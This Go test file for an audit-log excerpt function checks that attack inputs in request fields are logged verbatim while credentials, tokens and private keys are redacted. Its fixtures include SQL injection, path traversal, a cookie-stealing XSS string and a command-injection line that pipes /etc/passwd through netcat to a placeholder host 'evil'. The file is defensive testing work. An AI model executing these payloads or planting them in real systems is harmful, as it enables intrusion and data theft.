package auditlog

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestExcerptsShowAttacksAndHideSecrets(t *testing.T) {
	tests := []struct{ field, text, want string }{
		{"body.q", "1' OR 1=1 --", "1' OR 1=1 --"},
		{"body.file", "../../../../etc/passwd", "../../../../etc/passwd"},
		{"body.cmd", ";cat /etc/passwd|nc evil 1", ";cat /etc/passwd|nc evil 1"},
		{"body.x", "<script>alert(document.cookie)</script>", "<script>alert(document.cookie)</script>"},

		{"headers.Authorization", "Basic dXNlcjpwYXNz' OR 1=1", redacted},
		{"multiValueHeaders.cookie[0]", "sid=1", redacted},
		{"headers.x-api-key", "k", redacted},
		{"headers.x-amzn-oidc-data", "k", redacted},
		{"authorizationToken", "k", redacted},
		{"request.password", "k", redacted},
		{"request.code", "123456", redacted},
		{"request.challengeAnswer", "k", redacted},
		{"Records[0].receiptHandle", "k", redacted},
		{"ResponseURL", "https://x", redacted},
		{"getObjectContext.inputS3Url", "https://x", redacted},
		{"body → user.api_key", "k", redacted},

		{"b", "id AKIAIOSFODNN7EXAMPLE'--", "id [redacted]'--"},
		{"b", "id asiaiosfodnn7example'--", "id [redacted]'--"},
		{"b", "k wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY x", "k [redacted] x"},
		{"b", "t eyJhbGciOiJub25lIn0.eyJzdWIiOiJhIn0. or 1", "t [redacted] or 1"},
		{"b", "t eyjhbgcioijub25lin0.eyjzdwiioijhin0.abc or 1", "t [redacted] or 1"},
		{"b", "Bearer abcdef123456 ' or 1", "Bearer [redacted] ' or 1"},
		{"b", "user=x&password=hunter2&q=' or 1", "user=x&password=[redacted]&q=' or 1"},
		{"b", `{"password": "hunter 2", "q": 1}`, `{"password": [redacted], "q": 1}`},
		{"b", `{\"db_passwd\":\"hunter2\"}`, `{\"db_passwd\":[redacted]}`},
		{"b", "client_secret = s3cr3t; x", "client_secret = [redacted]; x"},
		{"b", "?X-Amz-Signature=deadbeef&X-Amz-Security-Token=abc%2F&a=b", "?X-Amz-Signature=[redacted]&X-Amz-Security-Token=[redacted]&a=b"},
		{"b", "postgres://root:hunter2@db/x' or 1", "postgres://root:[redacted]@db/x' or 1"},
		{"b", "a\n-----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY-----\nb", "a\n[redacted]\nb"},
		{"b", "-----BEGIN PRIVATE KEY-----\nMIIB", "[redacted]"},
		{"b", "\xff\x00x", "\uFFFD\x00x"},
	}
	for _, test := range tests {
		if got := excerpt(test.field, test.text); got != test.want {
			t.Errorf("%s: %q\n got %q\nwant %q", test.field, test.text, got, test.want)
		}
	}
}

func TestAnExcerptIsBoundedAndASecretAtTheCutStaysHidden(t *testing.T) {
	if got := excerpt("b", strings.Repeat("x ", 10_000)); len(got) > maxExcerpt+len("…") {
		t.Errorf("got %d bytes", len(got))
	}
	if got := excerpt("b", strings.Repeat("ü", 10_000)); !utf8.ValidString(got) {
		t.Errorf("cut inside a character: %q", got)
	}
	// All that is before the cut is redacted to almost nothing, so that the cut itself comes into view.
	text := strings.Repeat("A", maxScanned-30) + " password=hunter2andmore"
	text = text[:maxScanned-8] + " AKIAIOSFODNN7EXAMPLE"
	if got := excerpt("b", text); strings.Contains(got, "AKIA") {
		t.Errorf("the beginning of a key is shown: %q", got)
	}
}

func FuzzAnExcerptIsBoundedAndValid(f *testing.F) {
	f.Add("body.q", "password=x' AKIAIOSFODNN7EXAMPLE \xff")
	f.Fuzz(func(t *testing.T, field, text string) {
		got := excerpt(field, text)
		if len(got) > maxExcerpt+len("…") || !utf8.ValidString(got) {
			t.Errorf("%d bytes, %q", len(got), got)
		}
	})
}
